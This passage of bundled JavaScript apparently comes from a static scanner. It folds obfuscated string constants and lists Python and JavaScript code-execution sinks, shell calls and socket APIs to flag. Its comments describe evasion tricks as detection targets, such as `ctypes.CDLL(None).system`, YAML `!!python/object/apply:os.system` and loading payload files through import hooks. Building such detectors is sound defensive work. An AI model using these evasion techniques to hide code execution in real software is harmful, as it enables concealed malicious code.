    if (asciiIdentifierPart(c, true) || c >= 128) {
      const name2 = identifierAt(source, i2);
      if (name2 !== void 0) {
        if (test(name2)) return true;
        i2 += name2.length;
        continue;
      }
    } else if (c >= 48 && c <= 57) {
      while (i2 < to && asciiIdentifierPart(source.charCodeAt(i2), false)) i2++;
      continue;
    }
    i2++;
  }
  return false;
}
function watchedLiteral(source, literal, known) {
  return someIdentifierIn(source, literal.startIndex, literal.endIndex, known);
}
var IDENT_AT = new RegExp(IDENT, "uy");
var asciiIdentifierPart = (c, first) => c === 36 || c === 95 || (c | 32) >= 97 && (c | 32) <= 122 || !first && c >= 48 && c <= 57;
function identifierAt(source, offset) {
  let end = offset;
  while (end < source.length && asciiIdentifierPart(source.charCodeAt(end), end === offset)) end++;
  if (end >= source.length || source.charCodeAt(end) < 128) return end > offset ? source.slice(offset, end) : void 0;
  IDENT_AT.lastIndex = offset;
  return IDENT_AT.exec(source)?.[0];
}
var COMMENT_TYPES = /* @__PURE__ */ new Set(["comment", "html_comment"]);
var isComment = (node) => COMMENT_TYPES.has(node.type);
function namedChildrenOf(node) {
  const list = node?.type === "call_expression" || node?.type === "call" || node?.type === "new_expression" ? node.childForFieldName("arguments") : node;
  const out2 = [];
  for (const child of list?.namedChildren ?? []) if (child && !isComment(child)) out2.push(child);
  return out2;
}
function stringValue(node, text = node.text) {
  const type = node.type;
  if (type !== "string" && type !== "template_string") return void 0;
  if (type === "template_string" && text.includes("${")) return void 0;
  const from = OPENING_QUOTE.exec(text)?.[0].length ?? 0;
  const rest = text.length - from;
  const to = rest >= 3 && (text.endsWith('"""') || text.endsWith("'''")) ? text.length - 3 : rest >= 1 && QUOTES.has(text[text.length - 1]) ? text.length - 1 : text.length;
  const escape = text.indexOf("\\", from);
  return escape >= 0 && escape < to ? void 0 : text.slice(from, to);
}
var OPENING_QUOTE = /^[rRbBuUfF]*(?:"""|'''|"|'|`)/;
var QUOTES = /* @__PURE__ */ new Set(['"', "'", "`"]);
function oneLine(text) {
  return text.replace(/\s+/g, (space, at) => /[.?!]/.test(text[at + space.length] ?? "") && text[at + space.length + 1] !== "?" && /[\w$)\]]/.test(text[at - 1] ?? "") && !/\?\?/.test(text.slice(at + space.length, at + space.length + 2)) ? "" : text[at - 1] === "." || text[at - 1] === "(" || text[at + space.length] === ")" ? "" : " ");
}
var F_STRING = /^(?:[fF][rR]?|[rR][fF])['"]/;
var MAX_FOLDED_STRING = 256;
var NAMES = { max: MAX_FOLDED_STRING, literal: stringValue };
var MAX_CODE_CHARS = 65536;
var CODE = { max: MAX_CODE_CHARS, literal: (node, text) => codeLiteral(node, text) };
var Constants = class {
  values = /* @__PURE__ */ new Map();
  /** The one value each name is assigned (undefined: more than one, or poisoned), for code read through a name (CODE). */
  held = /* @__PURE__ */ new Map();
  /** Names assigned a string somewhere (constants, and names poisoned too): each is a constant or not by every binding of it in the file. */
  names = /* @__PURE__ */ new Set();
  /** `name` is bound to something other than a string constant somewhere in the file. */
  poison(name2) {
    this.values.set(name2, void 0);
    this.held.set(name2, void 0);
  }
  add(name2, value) {
    this.names.add(name2);
    const text = this.stringOf(value);
    this.values.set(name2, this.values.has(name2) && this.values.get(name2) !== text ? void 0 : text);
    const held = this.held.get(name2);
    this.held.set(name2, this.held.has(name2) && held?.startIndex !== value.startIndex ? void 0 : value);
  }
  /**
   * A string literal, a name holding one, or literals and such names joined by `+` (and Python's adjacent literals,
   * `"sub" "process"`): the spellings that hide a module's name from a reader but not from the program. Code (CODE)
   * read through a name is its one value read as code (a worker's source held in a `const`, escapes and all).
   */
  stringOf(node, depth = 0, reading = NAMES) {
    if (!node || depth > MAX_RESOLVE_DEPTH) return void 0;
    switch (node.type) {
      // `{ expression }`: the property's value is the name's.
      case "shorthand_property_identifier":
      case "identifier": {
        if (reading !== CODE) return this.values.get(node.text);
        const held = this.held.get(node.text);
        return held ? this.stringOf(held, depth + 1, reading) : void 0;
      }
      case "parenthesized_expression":
        return node.namedChildCount === 1 ? this.stringOf(node.namedChild(0), depth + 1, reading) : void 0;
      // TypeScript's `"exec" as const`, `"exec" satisfies string`: the string.
      case "as_expression":
      case "satisfies_expression":
        return this.stringOf(node.namedChild(0), depth + 1, reading);
      case "binary_expression":
      case "binary_operator":
        if (node.childForFieldName("operator")?.type !== "+") return void 0;
        return this.joined([node.childForFieldName("left"), node.childForFieldName("right")], depth, reading);
      case "concatenated_string":
        return this.joined(node.namedChildren, depth, reading);
      case "template_string":
        return node.namedChildren.some((part) => part?.type === "template_substitution") ? this.joined(node.namedChildren, depth, reading) : reading.literal(node);
      case "string": {
        const text = node.text;
        return F_STRING.test(text) && node.namedChildren.some((part) => part?.type === "interpolation") ? this.joined(node.namedChildren.filter((part) => part?.type !== "string_start" && part?.type !== "string_end"), depth, reading) : reading.literal(node, text);
      }
      case "string_content": {
        const text = node.text.replaceAll("{{", "{").replaceAll("}}", "}");
        if (!text.includes("\\")) return text;
        return reading !== CODE ? void 0 : /[rR]/.test(node.parent?.child(0)?.text ?? "") ? text : decodedEscapes(text, true);
      }
      case "interpolation":
        return node.childCount === 3 ? this.stringOf(node.namedChild(0), depth + 1, reading) : void 0;
      case "string_fragment":
        return node.text;
      case "escape_sequence":
        return reading === CODE ? decodedEscapes(node.text, false) : void 0;
      case "template_substitution":
        return node.namedChildCount === 1 ? this.stringOf(node.namedChild(0), depth + 1, reading) : void 0;
      case "call_expression":
      case "call":
        return this.builtByMethod(node, depth, reading);
      default:
        return reading.literal(node);
    }
  }
  /**
   * `["child", "process"].join("_")` (JavaScript; the separator is "," when none is given), Python's
   * `"_".join(["sub", "process"])` (a list or tuple), and JavaScript's `"child".concat("_", "process")`: strings
   * joined by a string, or one string continued by others, bounded as `+` is. The method may be named by a
   * subscript (`["child", "process"]["join"]("_")`).
   */
  builtByMethod(node, depth, reading) {
    const fn = node.childForFieldName("function");
    const args2 = node.childForFieldName("arguments");
    const python = fn?.type === "attribute";
    if (!fn || !args2 || !python && fn.type !== "member_expression" && fn.type !== "subscript_expression") return void 0;
    const method = python ? fn.childForFieldName("attribute")?.text : fn.type === "member_expression" ? fn.childForFieldName("property")?.text : this.stringOf(fn.childForFieldName("index"), depth + 1);
    const object = fn.childForFieldName("object");
    if (method === "concat" && !python) return args2.childCount > 2 * MAX_FOLDED_STRING + 2 ? void 0 : this.joined([object, ...namedChildrenOf(args2)], depth, reading);
    if (method !== "join") return void 0;
    const given2 = namedChildrenOf(args2);
    const list = python ? given2[0] : object;
    if (given2.length > 1 || python && given2.length === 0 || !list || list.childCount > 2 * MAX_FOLDED_STRING + 2) return void 0;
    if (python ? list.type !== "list" && list.type !== "tuple" : list.type !== "array") return void 0;
    const separator = python ? this.stringOf(object, depth + 1, reading) : given2.length === 0 ? "," : this.stringOf(given2[0], depth + 1, reading);
    if (separator === void 0) return void 0;
    let out2;
    for (const element of python ? namedChildrenOf(list) : arrayElements(list)) {
      const text = element === HOLE ? "" : this.stringOf(element, depth + 1, reading);
      if (text === void 0) return void 0;
      out2 = out2 === void 0 ? text : out2 + separator + text;
      if (out2.length > reading.max) return void 0;
    }
    return out2 ?? "";
  }
  joined(parts2, depth, reading) {
    let out2 = "";
    for (const part of parts2) {
      const text = this.stringOf(part, depth + 1, reading);
      if (text === void 0 || out2.length + text.length > reading.max) return void 0;
      out2 += text;
    }
    return out2;
  }
};
function codeLiteral(node, text = node.text) {
  if (node.type !== "string" && node.type !== "template_string") return void 0;
  if (node.namedChildren.some((part) => part?.type === "interpolation" || part?.type === "template_substitution")) return void 0;
  const literal = /^([A-Za-z]*)("""|'''|"|'|`)([\s\S]*)\2$/.exec(text);
  if (!literal) return void 0;
  const prefix = literal[1].toLowerCase();
  const python = node.namedChildren.some((part) => part?.type === "string_start");
  const inner = python && prefix.includes("f") ? literal[3].replaceAll("{{", "{").replaceAll("}}", "}") : literal[3];
  return python && prefix.includes("r") ? inner : decodedEscapes(inner, python);
}
var ESCAPE = /\\(?:x([0-9a-fA-F]{2})|u\{([0-9a-fA-F]{1,6})\}|u([0-9a-fA-F]{4})|U([0-9a-fA-F]{8})|([0-7]{1,3})|(N\{)|(\r\n|[\n\r\u2028\u2029])|([\s\S]))/g;
var SIMPLE_ESCAPES = { n: "\n", t: "	", r: "\r", b: "\b", f: "\f", v: "\v", "\\": "\\", "'": "'", '"': '"', "`": "`" };
function decodedEscapes(text, python) {
  let unread = false;
  const out2 = text.replace(ESCAPE, (escape, x, braced, u4, u8, octal, named2, newline, other) => {
    const hex = x ?? (python ? u4 ?? u8 : braced ?? u4);
    if (hex !== void 0) {
      const code = parseInt(hex, 16);
      if (code <= 1114111) return String.fromCodePoint(code);
      unread = true;
      return "";
    }
    if (octal !== void 0) return String.fromCodePoint(parseInt(octal, 8));
    if (newline !== void 0) return "";
    if (named2 !== void 0 && python) {
      unread = true;
      return "";
    }
    const char = other ?? escape.slice(1);
    if (char in SIMPLE_ESCAPES) return SIMPLE_ESCAPES[char];
    if (python) return char === "a" ? "\x07" : escape;
    return char;
  });
  return unread ? void 0 : out2;
}
var HOLE = "hole";
function arrayElements(array) {
  const out2 = [];
  let pending;
  for (const child of array.children) {
    if (!child || child.type === "[" || isComment(child)) continue;
    if (child.type === "," || child.type === "]") {
      if (child.type === "," || pending !== void 0) out2.push(pending ?? HOLE);
      pending = void 0;
    } else pending = child;
  }
  return out2;
}
function mayJoinArray(source, start3, end) {
  return source[start3] === "[" && /\]\s*(?:\.\s*join|\[\s*(['"`])join\1\s*\])\s*\([^()]*\)$/.test(source.slice(Math.max(start3, end - 64), end));
}
function slotValue(bindings, node, keyOf) {
  const root = rootName(node.text);
  if (!root || !bindings.slotRoots.has(root)) return void 0;
  const key = keyOf(node);
  return key ? bindings.slotPath(key.split(".")) : void 0;
}
function mayFallBack(source, start3, end, known, operators) {
  const window2 = source.slice(start3, Math.min(end, start3 + 400));
  const lineEnd2 = window2.indexOf("\n");
  const line = lineEnd2 < 0 ? window2 : window2.slice(0, lineEnd2);
  if (!operators.test(line)) return false;
  for (const [name2] of line.matchAll(IDENT_ALL)) if (known(name2)) return true;
  return false;
}

// core/scan/specs.ts
var ANY = "*";
var DEFAULT = "default";
var GLOBAL = "<global>";
var RETURNED = "()";
var CHOSEN_EVALUATOR = { reads: "chosen" };
var TIMED = { reads: "program", parameters: ["stmt", "setup"] };
var EVALUATORS = {
  python: {
    "builtins.exec": { reads: "program", passed: true },
    "builtins.eval": { reads: "expression", passed: true },
    "builtins.compile": { reads: "program" },
    // A file run or loaded as a module by its path, whatever its name (`runpy.run_path("payload.dat")`).
    "runpy.run_path": { reads: "file" },
    "runpy.run_module": { reads: "file" },
    "importlib.machinery.SourceFileLoader": { reads: "file" },
    "importlib.machinery.SourcelessFileLoader": { reads: "file" },
    "importlib.machinery.ExtensionFileLoader": { reads: "file" },
    // A finder for a folder, with the loaders and suffixes it is given (`FileFinder(d, (SourceFileLoader, [".dat"]))`).
    "importlib.machinery.FileFinder": { reads: "file" },
    "importlib.machinery.FileFinder.path_hook": { reads: "file" },
    // Import reading other suffixes as source (`SOURCE_SUFFIXES.append(".dat")`, then `import payload` runs payload.dat).
    "importlib.machinery.SOURCE_SUFFIXES.append": { reads: "file" },
    "importlib.machinery.SOURCE_SUFFIXES.extend": { reads: "file" },
    "importlib.machinery.SOURCE_SUFFIXES.insert": { reads: "file" },
    // importlib.machinery's classes where they are defined.
    "importlib._bootstrap_external.SourceFileLoader": { reads: "file" },
    "importlib._bootstrap_external.SourcelessFileLoader": { reads: "file" },
    "importlib._bootstrap_external.ExtensionFileLoader": { reads: "file" },
    "importlib._bootstrap_external.FileFinder": { reads: "file" },
    "importlib._bootstrap_external.spec_from_file_location": { reads: "file" },
    "importlib.util.spec_from_file_location": { reads: "file" },
    // A loader class of the project's built on importlib's that compile what its own methods read (`class L(SourceLoader)`
    // with a `get_data` reading any file): made, it runs that as a module (`spec_from_loader(n, L())`, then `exec_module`).
    ...Object.fromEntries(["importlib.abc", "importlib._bootstrap_external", "importlib._abc"].flatMap((m) => ["SourceLoader", "FileLoader", "InspectLoader", "ExecutionLoader"].map((c) => [`${m}.${c}`, { reads: "file" }]))),
    // A zip archive's module run (the archive alone is read for data: pkg_resources, pip).
    "zipimport.zipimporter().load_module": { reads: "file" },
    "zipimport.zipimporter().exec_module": { reads: "file" },
    "imp.load_source": { reads: "file" },
    "imp.load_compiled": { reads: "file" },
    "imp.load_dynamic": { reads: "file" },
    "imp.load_module": { reads: "file" },
    "imp.load_package": { reads: "file" },
    // A native library loaded: its functions run outside anything the scan reads (`ctypes.CDLL(None).system(b"\u2026")`).
    "ctypes.CDLL": { reads: "file" },
    "ctypes.PyDLL": { reads: "file" },
    "ctypes.WinDLL": { reads: "file" },
    "ctypes.cdll.LoadLibrary": { reads: "file" },
    "ctypes.pydll.LoadLibrary": { reads: "file" },
    "ctypes.windll.LoadLibrary": { reads: "file" },
    // Unpickling calls whatever function its data names (`os.system` with its argument).
    "pickle.loads": { reads: "data" },
    "pickle.load": { reads: "data" },
    "pickle.Unpickler": { reads: "data" },
    // pickle's Python implementation and its C module by their own names, and multiprocessing's pickler (its `loads` is pickle's).
    ...Object.fromEntries(["pickle._loads", "pickle._load", "pickle._Unpickler", "_pickle.loads", "_pickle.load", "_pickle.Unpickler", "multiprocessing.reduction.ForkingPickler.loads"].map((f) => [f, { reads: "data" }])),
    // A code object read from bytes (`marshal.loads(b)`, `types.CodeType(\u2026, codestring, \u2026)`) or made into a function
    // (`types.FunctionType(code, {})()`) runs what those bytes are (a function's own `f.__code__` copied is that function's).
    "marshal.loads": { reads: "bytecode" },
    "marshal.load": { reads: "bytecode" },
    "types.CodeType": { reads: "bytecode" },
    "types.FunctionType": { reads: "bytecode" },
    "dill.loads": { reads: "data" },
    "dill.load": { reads: "data" },
    // numpy unpickles object arrays only when allowed; torch.load unpickles unless asked for weights only (its default
    // before torch 2.6, and what an older torch a project pins does: reported unless `weights_only=True`, as Bandit's B614).
    "numpy.load": { reads: "data", unsafeWith: { keyword: "allow_pickle", position: 2, value: "True", absent: "safe" } },
    "torch.load": { reads: "data", unsafeWith: { keyword: "weights_only", value: "False", absent: "unsafe" } },
    // joblib's and cloudpickle's loads are pickle's (a model or pipeline file loaded runs what its data names).
    "joblib.load": { reads: "data" },
    "cloudpickle.load": { reads: "data" },
    "cloudpickle.loads": { reads: "data" },
    // logging's file configuration evaluates each handler's `args` with eval; `listen()` takes such configurations from a socket.
    "logging.config.fileConfig": { reads: "file" },
    "logging.config.listen": { reads: "stream" },
    // The `code` module's interpreters: source run (`runsource`, `push`), compiled (`compile_command`), or read from stdin (`interact`).
    "code.InteractiveInterpreter().runsource": { reads: "program" },
    "code.InteractiveInterpreter().runcode": { reads: "program" },
    "code.InteractiveConsole().runsource": { reads: "program" },
    "code.InteractiveConsole().runcode": { reads: "program" },
    "code.InteractiveConsole().push": { reads: "program" },
    "code.InteractiveConsole().interact": { reads: "stream" },
    "code.interact": { reads: "stream" },
    "code.compile_command": { reads: "program" },
    // codeop's compilers, under the `code` module's: source compiled into a code object, as `compile` does.
    "codeop.compile_command": { reads: "program" },
    "codeop.Compile()": { reads: "program" },
    "codeop.CommandCompiler()": { reads: "program" },
    // Debuggers, profilers and timers run a statement given as a string (`pdb.run(s)`, `cProfile.run(s)`, `timeit.timeit(s)`).
    ...Object.fromEntries(
      ["pdb", "pdb.Pdb()", "bdb.Bdb()", "profile", "profile.Profile()", "cProfile", "cProfile.Profile()", "trace.Trace()"].flatMap((runner) => [
        [`${runner}.run`, { reads: "program" }],
        [`${runner}.runctx`, { reads: "program" }],
        ...runner.includes("db") ? [[`${runner}.runeval`, { reads: "expression" }]] : []
      ])
    ),
    // A debugger prompt reads statements from the terminal and runs them, as `code.interact()` does (a `breakpoint()` left in).
    "builtins.breakpoint": { reads: "stream" },
    "pdb.set_trace": { reads: "stream" },
    "pdb.Pdb().set_trace": { reads: "stream" },
    "pdb.post_mortem": { reads: "stream" },
    "pdb.pm": { reads: "stream" },
    // CPython's own C API through ctypes: a string run as a program, a module imported by name.
    ...Object.fromEntries(["PyRun_SimpleString", "PyRun_SimpleStringFlags", "PyRun_String", "PyRun_StringFlags", "Py_CompileString", "Py_CompileStringExFlags"].map((f) => [`ctypes.pythonapi.${f}`, { reads: "program" }])),
    ...Object.fromEntries(["PyEval_EvalCode", "PyImport_ImportModule", "PyImport_Import", "PyImport_ImportModuleLevel", "PyRun_SimpleFile", "PyRun_File", "PyRun_AnyFile"].map((f) => [`ctypes.pythonapi.${f}`, { reads: "file" }])),
    "timeit.timeit": TIMED,
    "timeit.repeat": TIMED,
    "timeit.Timer": TIMED,
    // Loading these calls whatever function the data names, as unpickling does: shelve's values are pickles, PyYAML's
    // full loaders build any Python object (`!!python/object/apply:os.system`; handed to `yaml.load(s, Loader=\u2026)`).
    "shelve.open": { reads: "data" },
    "shelve.Shelf": { reads: "data" },
    "shelve.DbfilenameShelf": { reads: "data" },
    "shelve.BsdDbShelf": { reads: "data" },
    "jsonpickle.decode": { reads: "data" },
    "pandas.read_pickle": { reads: "data" },
    "yaml.unsafe_load": { reads: "data" },
    "yaml.unsafe_load_all": { reads: "data" },
    ...Object.fromEntries(["Loader", "UnsafeLoader", "CLoader", "CUnsafeLoader"].map((loader) => [`yaml.${loader}`, { reads: "data", passed: true }])),
    // cffi's foreign function interface, as ctypes' (`cffi.FFI().dlopen(None).system(b"\u2026")`).
    "cffi.FFI().dlopen": { reads: "file" },
    // doctest runs the `>>> ` examples of a module's docstrings (and its `__test__` strings) as code in its globals;
    // or of a text file.
    "doctest.testmod": { reads: "docstrings", subject: { keyword: "m", position: 0 } },
    "doctest.DocTestSuite": { reads: "docstrings", subject: { keyword: "module", position: 0 } },
    "doctest.run_docstring_examples": { reads: "docstrings", subject: { keyword: "f", position: 0 } },
    "doctest.DocTestFinder().find": { reads: "docstrings", subject: { keyword: "obj", position: 0 } },
    "doctest.testfile": { reads: "file" },
    "doctest.DocFileSuite": { reads: "file" },
    // String annotations evaluated as expressions in their module's globals: always by get_type_hints, by inspect's and
    // annotationlib's when asked (`inspect.signature(f, eval_str=True)`); of this file's functions, read here.
    ...Object.fromEntries(["typing.get_type_hints", "typing_extensions.get_type_hints"].map((f) => [f, { reads: "annotations" }])),
    ...Object.fromEntries(["inspect.signature", "inspect.Signature.from_callable", "inspect.get_annotations", "annotationlib.get_annotations"].map((f) => [f, { reads: "annotations", unsafeWith: { keyword: "eval_str", value: "True", absent: "safe" } }])),
    // A dotted name resolved to the object it names (`pydoc.locate("os.system")`, logging's configurators' `resolve`, an
    // entry point's `load()` of `"os:system"`): a constant name is that member, another any.
    "pydoc.locate": { reads: "name", subject: { keyword: "path", position: 0 } },
    ...Object.fromEntries(["BaseConfigurator", "DictConfigurator"].map((c) => [`logging.config.${c}().resolve`, { reads: "name", subject: { keyword: "s", position: 0 } }])),
    ...Object.fromEntries(["importlib.metadata", "importlib_metadata"].map((m) => [`${m}.EntryPoint`, { reads: "name", subject: { keyword: "value", position: 1 }, loadedBy: "load" }]))
  },
  javascript: {
    eval: { reads: "expression", passed: true, globalScope: true },
    Function: { reads: "body", globalScope: true },
    setTimeout: { reads: "program", strings: true },
    setInterval: { reads: "program", strings: true },
    "vm.runInThisContext": { reads: "expression", globalScope: true },
    "vm.runInNewContext": { reads: "expression" },
    "vm.runInContext": { reads: "expression" },
    "vm.compileFunction": { reads: "program" },
    "vm.Script": { reads: "program" },
    "vm.SourceTextModule": { reads: "program" },
    // `new Worker(code, { eval: true })` runs the code; `new Worker("./payload.txt")` runs any file as JavaScript.
    "worker_threads.Worker": { reads: "worker" },
    // A web worker's scripts fetched and run, a native addon loaded by its path.
    importScripts: { reads: "file" },
    "process.dlopen": { reads: "file" },
    // Deno's and Bun's foreign function interfaces: a native library's functions called (`Deno.dlopen(p, { system: \u2026 })`).
    "Deno.dlopen": { reads: "file" },
    "bun:ffi.dlopen": { reads: "file" },
    // An interactive evaluator reading its input from a stream.
    "repl.start": { reads: "stream" },
    "repl.REPLServer": { reads: "stream" },
    // An inspector session evaluating code in this process (`session.post("Runtime.evaluate", { expression })`).
    "inspector.Session().post": { reads: "inspector" },
    "inspector/promises.Session().post": { reads: "inspector" },
    // Module loader hooks registered (`register("data:text/javascript,\u2026")`, `register("./hooks.mjs", import.meta.url)`): the
    // module named runs, in a thread of its own, and then sees and may rewrite every module the program loads.
    "node:module.register": { reads: "file" },
    // A CommonJS module compiled from a string (what require hooks do): an instance of the `module` builtin's class
    // (its path as javascript.ts's loaders write it; also its `Module`), or its prototype's method (`Module.prototype._compile.call(m, code, f)`).
    ...Object.fromEntries(["node:module", "node:module.Module"].flatMap((cls) => [`${cls}()._compile`, `${cls}.prototype._compile`]).map((target) => [target, { reads: "program" }])),
    // A file loaded as a CommonJS module by its path whatever its name says (`new Module(id).load(f)`), the main module run
    // again from `process.argv[1]` (`Module.runMain()`), a file run by the test runner (`require("node:test").run({ files })`).
    ...Object.fromEntries(["node:module", "node:module.Module"].flatMap((cls) => [`${cls}().load`, `${cls}.prototype.load`]).map((target) => [target, { reads: "file" }])),
    ...Object.fromEntries(["node:module", "node:module.Module"].map((cls) => [`${cls}.runMain`, { reads: "main" }])),
    "test.run": { reads: "file" }
  }
};
var EVALUATOR_MODULES = {
  python: [
    ...["builtins", "runpy", "importlib.machinery", "importlib._bootstrap_external", "importlib.util", "zipimport", "imp", "pickle", "dill", "ctypes", "code"],
    ...["pdb", "bdb", "profile", "cProfile", "trace", "timeit", "shelve", "jsonpickle", "pandas", "yaml", "cffi", "joblib", "cloudpickle", "logging.config", "numpy", "torch", "doctest"],
    ...["_pickle", "marshal", "types", "codeop", "multiprocessing.reduction", "pydoc", "importlib.abc", "importlib._abc", "typing", "typing_extensions", "inspect", "annotationlib", "importlib.metadata", "importlib_metadata"]
  ],
  javascript: ["vm", "worker_threads", "repl", "inspector", "inspector/promises", "bun:ffi", "test"]
};
var moduleOf = (language, target) => EVALUATOR_MODULES[language].find((module2) => target.startsWith(`${module2}.`));
var evaluatorsOf = (language, module2) => Object.keys(EVALUATORS[language]).flatMap((target) => {
  const owner = moduleOf(language, target);
  return module2 === GLOBAL ? owner ? [] : [target] : owner === module2 ? [target.slice(module2.length + 1)] : [];
});
var of = (kind, ...names) => Object.fromEntries(names.map((n) => [n, kind]));
var call = (...names) => of("call", ...names);
var client = (...names) => of("client", ...names);
var inert = (...names) => of("inert", ...names);
var py = (module2, members, category) => ({ language: "python", module: module2, members, category, form: "any" });
var js = (module2, members, category, form = "any") => ({ language: "javascript", module: module2, members, category, form });
var OS_EXEC = ["execl", "execle", "execlp", "execlpe", "execv", "execve", "execvp", "execvpe"];
var OS_SPAWN = ["spawnl", "spawnle", "spawnlp", "spawnlpe", "spawnv", "spawnve", "spawnvp", "spawnvpe", "posix_spawn", "posix_spawnp"];
var CHILD_PROCESS = ["exec", "execSync", "execFile", "execFileSync", "spawn", "spawnSync", "fork"];
var SOCKET_USE = ["connect", "connect_ex", "sendto", "sendmsg"];
var socketUse = (cls) => call(...SOCKET_USE.flatMap((m) => [`${cls}${RETURNED}.${m}`, `${cls}.${m}`]));
var EVENT_LOOP_GETTERS = ["get_running_loop", "get_event_loop", "new_event_loop"];
var EVENT_LOOPS = [
  ...EVENT_LOOP_GETTERS.flatMap((l) => [l, `events.${l}`]),
  ...["SelectorEventLoop", "ProactorEventLoop", "unix_events.SelectorEventLoop", "windows_events.ProactorEventLoop", "selector_events.BaseSelectorEventLoop", "base_events.BaseEventLoop"],
  ...["get_event_loop_policy", "events.get_event_loop_policy", "DefaultEventLoopPolicy", "events.BaseDefaultEventLoopPolicy"].flatMap((p) => [`${p}${RETURNED}.new_event_loop`, `${p}${RETURNED}.get_event_loop`]),
  `Runner${RETURNED}.get_loop`,
  `runners.Runner${RETURNED}.get_loop`
];
var SELENIUM_LOCAL = ["Chrome", "Firefox", "Edge", "ChromiumEdge", "Safari", "Ie", "WebKitGTK", "WPEWebKit"];
var PLAYWRIGHT_PACKAGES = ["playwright", "playwright-core", "playwright-chromium", "playwright-firefox", "playwright-webkit", "@playwright/test"];
var PLAYWRIGHT_BROWSERS = ["chromium", "firefox", "webkit"];
var PLAYWRIGHT_LAUNCH = ["launch", "launchPersistentContext", "launchServer"];
var PLAYWRIGHT_CONNECT = ["connect", "connectOverCDP"];
var HTTP_FUNCTIONS = ["request", "get", "options", "head", "post", "put", "patch", "delete"];
var SOCKET_LOOKUPS = ["getaddrinfo", "getnameinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr", "getfqdn"];
var LOOP_LOOKUPS = ["getaddrinfo", "getnameinfo"];
var DNS_QUERIES = ["lookup", "lookupService", "resolve", "resolve4", "resolve6", "resolveAny", "resolveCaa", "resolveCname", "resolveMx", "resolveNaptr", "resolveNs", "resolvePtr", "resolveSoa", "resolveSrv", "resolveTxt", "reverse"];
var LOOP_CONNECT = ["create_connection", "create_unix_connection", "create_datagram_endpoint", "sock_connect", "sock_sendto"];
var ASYNCIO_SUBPROCESS = ["create_subprocess_exec", "create_subprocess_shell"];
var LOOP_SUBPROCESS = ["subprocess_exec", "subprocess_shell"];
var withAsync = (prefix, ...paths) => paths.flatMap((p) => [p, p.replace(/[^.]+$/, `${prefix}$&`)]);
var langchainModels = (bySubmodule) => client(...Object.entries(bySubmodule).flatMap(([sub, names]) => names.flatMap((n) => [n, `${sub}.${n}`])));
var REPLICATE_REQUESTS = withAsync(
  "async_",
  "run",
  "stream",
  ...["create", "get", "list", "cancel"].map((m) => `predictions.${m}`),
  ...["create", "get", "list", "search", "delete", "predictions.create"].map((m) => `models.${m}`),
  ...["create", "get", "list", "update", "delete", "predictions.create"].map((m) => `deployments.${m}`),
  ...["create", "get", "list", "cancel"].map((m) => `trainings.${m}`),
  ...["get", "list"].map((m) => `collections.${m}`),
  ...["create", "get", "list", "delete"].map((m) => `files.${m}`),
  "hardware.list",
  "webhooks.default.secret"
);
var OLLAMA_REQUESTS = ["chat", "generate", "embed", "embeddings", "create", "pull", "push", "delete", "copy", "list", "show", "ps"];
var AI_SDK_CALLS = [
  ...["generateText", "streamText", "generateObject", "streamObject"].flatMap((f) => [f, `experimental_${f}`]),
  ...["embed", "embedMany", "rerank", "generateImage", "experimental_generateImage", "experimental_generateSpeech", "experimental_transcribe", "experimental_generateVideo"],
  ...["ToolLoopAgent", "Experimental_Agent"].flatMap((a) => [`${a}${RETURNED}.generate`, `${a}${RETURNED}.stream`]),
  ...["createAgentUIStream", "createAgentUIStreamResponse", "pipeAgentUIStreamToResponse"]
];
var OLLAMA_JS = { ...call(...OLLAMA_REQUESTS, "webSearch", "webFetch"), ...client("Ollama") };
var HF_INFERENCE_TASKS = [
  "request",
  "streamingRequest",
  "chatCompletion",
  "chatCompletionStream",
  "textGeneration",
  "textGenerationStream",
  "featureExtraction",
  "sentenceSimilarity",
  "fillMask",
  "questionAnswering",
  "summarization",
  "tableQuestionAnswering",
  "textClassification",
  "tokenClassification",
  "translation",
  "zeroShotClassification",
  "audioClassification",
  "audioToAudio",
  "automaticSpeechRecognition",
  "textToAudio",
  "textToSpeech",
  "imageClassification",
  "imageSegmentation",
  "imageToImage",
  "imageToText",
  "imageToVideo",
  "imageTextToImage",
  "imageTextToVideo",
  "objectDetection",
  "textToImage",
  "textToVideo",
  "zeroShotImageClassification",
  "documentQuestionAnswering",
  "visualQuestionAnswering",
  "tabularClassification",
  "tabularRegression"
];
var modelEntries = (pkg, subpaths) => [pkg, ...["index", ...subpaths].flatMap((sub) => ["", ".js", ".mjs"].map((ext) => `${pkg}/${sub}${ext}`))];
var DEFAULT_SPECS = [
  // Python \u2014 shell
  // `startfile` opens a file with the program Windows associates with it.
  py("os", call("system", "popen", "startfile", ...OS_EXEC, ...OS_SPAWN), "shell"),
  // The built-in modules os is written over (`os.system.__self__` is one): POSIX's and Windows' members of OS_EXEC and OS_SPAWN.
  py("posix", call("system", "execv", "execve", "posix_spawn", "posix_spawnp"), "shell"),
  py("nt", call("system", "startfile", "execv", "execve", "spawnv", "spawnve"), "shell"),
  // pydoc's pagers run their command argument in a shell.
  py("pydoc", call("pipepager", "tempfilepager"), "shell"),
  // A module whose every member crosses (`*`) still lists the functions `from M import *` brings (its `__all__` or
  // public API): a star import binds the listed names only (python.ts), so `from subprocess import *` \u2026 `run(cmd)` is found.
  py("subprocess", { [ANY]: "call", ...call("Popen", "call", "check_call", "check_output", "run", "getoutput", "getstatusoutput"), ...inert("PIPE", "STDOUT", "DEVNULL", "CompletedProcess", "list2cmdline", "STARTUPINFO", "_args_from_interpreter_flags", "_optim_args_from_interpreter_flags") }, "shell"),
  py("pty", call("spawn"), "shell"),
  // A browser started on a URL (as the npm package `open` is), directly or through a controller `webbrowser.get()` returns.
  py("webbrowser", call(...["", "get", "GenericBrowser", "BackgroundBrowser"].flatMap((made) => ["open", "open_new", "open_new_tab"].map((m) => made ? `${made}${RETURNED}.${m}` : m))), "shell"),
  // A pipeline template run through `sh` when opened or copied; distutils' (and setuptools' copy's) spawn; the C helper under subprocess.
  py("pipes", call(`Template${RETURNED}.open`, `Template${RETURNED}.copy`), "shell"),
  py("distutils.spawn", call("spawn"), "shell"),
  py("setuptools._distutils.spawn", call("spawn"), "shell"),
  py("_posixsubprocess", call("fork_exec"), "shell"),
  // A compiler object's spawn runs any command it is given (`new_compiler().spawn(["sh", "-c", cmd])`), distutils' and setuptools' copy's.
  ...["distutils.ccompiler", "setuptools._distutils.ccompiler"].map((m) => py(m, call(...["new_compiler", "CCompiler"].map((c) => `${c}${RETURNED}.spawn`)), "shell")),
  // Private and test helpers of the standard library that start a program: uuid's command output, multiprocessing's
  // fork-exec, the test suite's Python runners (`script_helper.run_python_until_end("-c", code)`).
